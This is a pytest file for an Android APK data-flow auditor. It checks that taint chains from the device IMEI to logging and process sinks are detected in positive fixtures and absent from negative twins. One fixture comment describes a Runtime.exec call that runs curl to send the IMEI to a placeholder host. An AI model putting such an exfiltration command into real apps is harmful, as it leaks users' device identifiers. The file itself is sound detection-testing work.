"""Java semantics in the data flow (issue 11): inherited fields, virtual calls on objects built
by reflection, reflective names from resources and from Method objects.

Each pair: the positive fixture has the chain (asserted by its hops, source and sink kinds), the
``-neg`` twin differs only in what makes the flow impossible and has no chain of that kind. The
fixtures are described in fixtures/README.md ("Java semantics").
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from conftest import fixture_apk, hop_names

from apkaudit.model import AppResult, Chain, Level


@dataclass(frozen=True)
class Case:
    fixture: str
    source: str
    sink: str
    hops: tuple[str, ...]  # every hop of the chain, source first


CASES = [
    # r = new Tagged(); r.imei = getDeviceId() (written as Record->imei, the declaring class);
    # Log.i(r.label()), label() reading Tagged->imei: one field, named through the subclass.
    Case(
        "flow-inherited-field",
        "device_id",
        "log",
        (
            "MainActivity.onCreate@0x20",  # getDeviceId
            "Tagged.label@0x0",  # iget Tagged->imei: the field Record declares
            "MainActivity.onCreate@0x2c",  # the call's result
            "MainActivity.onCreate@0x38",  # Log.i
        ),
    ),
    # p = (Probe) Class.forName("...PhoneProbe").newInstance(); Log.i(p.read(this)): the call
    # names the abstract Probe.read, the object is a PhoneProbe, whose read returns the IMEI.
    Case(
        "flow-reflect-dispatch",
        "device_id",
        "log",
        (
            "PhoneProbe.read@0x10",  # getDeviceId
            "MainActivity.onCreate@0x1e",  # Probe.read on the reflectively built object
            "MainActivity.onCreate@0x2a",  # Log.i
        ),
    ),
    # t = new String[2][2] (Array.newInstance(String.class, {2, 2})); t[0][1] = imei;
    # Log.i(t[0][1]): the row read from the array of arrays is the row written.
    Case(
        "flow-nested-array",
        "device_id",
        "log",
        ("MainActivity.onCreate@0x16", "MainActivity.onCreate@0x50"),  # getDeviceId, Log.i
    ),
    # n = new Note(imei); ObjectOutputStream over a ByteArrayOutputStream writeObject(n); its
    # bytes read back with an ObjectInputStream; Log.i(readObject().toString()).
    Case(
        "flow-serialized-object",
        "device_id",
        "log",
        (
            "MainActivity.onCreate@0x16",  # getDeviceId
            "MainActivity.onCreate@0x22",  # new Note(imei): its field holds it
            "MainActivity.onCreate@0x8a",  # Log.i
        ),
    ),
    # Runtime.getRuntime().exec("curl -s https://score.example/d?id=" + imei): the command
    # line goes to another program (the ipc sink).
    Case(
        "kind-process-exec",
        "device_id",
        "ipc",
        ("MainActivity.onCreate@0x16", "MainActivity.onCreate@0x42"),  # getDeviceId, exec
    ),
    # MainActivity puts the IMEI into an Intent's extra "id" for Target; Target keeps
    # this.reader = Class.forName("...Reader").getMethod("take", Intent.class) in a field and
    # logs this.reader.invoke(c.newInstance(), new Object[] {getIntent()}): the Method is read
    # back from the field (the Intent in the array: flow-icc-reflect-array, test_icc.py).
    Case(
        "flow-reflect-intent",
        "device_id",
        "log",
        (
            "MainActivity.onCreate@0x16",  # getDeviceId
            "MainActivity.onCreate@0x30",  # putExtra("id", imei)
            "MainActivity.onCreate@0x36",  # startActivity
            "Target.onCreate@0x50",  # Method.invoke -> Reader.take(intent)
            "Target.onCreate@0x60",  # Log.i
        ),
    ),
    # a = new Account(imei), whose constructor does this.card = new Card(s) (Card's own
    # constructor keeps s); Log.i(a.card().number()): an object a callee allocates and stores
    # into its parameter's field keeps its fields at the caller.
    Case(
        "flow-nested-new",
        "device_id",
        "log",
        (
            "MainActivity.onCreate@0x16",  # getDeviceId
            "Account.<init>@0xa",  # new Card(s), stored into this.card
            "MainActivity.onCreate@0x22",  # new Account(imei)
            "Card.number@0x0",
            "MainActivity.onCreate@0x30",  # a.card().number()
            "MainActivity.onCreate@0x3c",  # Log.i
        ),
    ),
    # Log.i(encode(imei)), encode(s) a lookup-table encoder: out[i] = DIGITS[c[i] & 0xf] over
    # s.toCharArray(), then new String(out): the table read at an index made from data.
    Case(
        "flow-table-lookup",
        "device_id",
        "log",
        (
            "MainActivity.onCreate@0x16",  # getDeviceId
            "MainActivity.onCreate@0x1e",  # encode(imei)
            "MainActivity.onCreate@0x2a",  # Log.i
        ),
    ),
]

NEG_WHY = {
    # out[i] = DIGITS[i & 0xf]: the index is the loop counter, not the data.
    "flow-table-lookup": "the table is read at the counter",
    # Account's constructor makes new Card("0000"): the card holds a fixed number.
    "flow-nested-new": "the nested object holds a constant",
    # Reader.take reads the extra "name", which nobody put.
    "flow-reflect-intent": "the invoked method reads another extra",
    # exec("sh -c id"): the command built with the IMEI is not the one run.
    "kind-process-exec": "a fixed command is run",
    # The object written is another Note, made with a fixed text.
    "flow-serialized-object": "another object is serialised",
    # Log.i(t[0][0]): the cells of a row are kept apart by constant index.
    "flow-nested-array": "another cell of the row",
    # Tagged declares its own imei, which hides Record.imei: label() reads a field nobody wrote.
    "flow-inherited-field": "a field of the subclass that hides the written one",
    # forName names NullProbe, whose read returns a constant: PhoneProbe.read never runs here.
    "flow-reflect-dispatch": "the class built by reflection returns a constant",
}


def _v(x: object) -> str:
    return str(getattr(x, "value", x))


def chains_of(result: AppResult, source: str, sink: str) -> list[Chain]:
    assert result.behaviours is not None
    return [c for c in result.behaviours.chains if _v(c.source) == source and _v(c.sink) == sink]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.fixture)
def test_positive_chain(audit, case: Case) -> None:
    result = audit(fixture_apk(case.fixture))
    assert result.status == "ok", result.error
    found = chains_of(result, case.source, case.sink)
    assert [hop_names(c) for c in found] == [list(case.hops)]
    assert found[0].reachable is True
    # No contacts, SMS or call log: the v1 verdicts stay none.
    assert result.verdicts.contacts_upload is Level.NONE
    assert result.verdicts.sms_send is Level.NONE


@pytest.mark.parametrize("case", CASES, ids=lambda c: f"{c.fixture}-neg")
def test_negative_twin_has_no_chain(audit, case: Case) -> None:
    result = audit(fixture_apk(case.fixture + "-neg"))
    assert result.status == "ok", result.error
    found = chains_of(result, case.source, case.sink)
    assert not found, (NEG_WHY[case.fixture], [hop_names(c) for c in found])
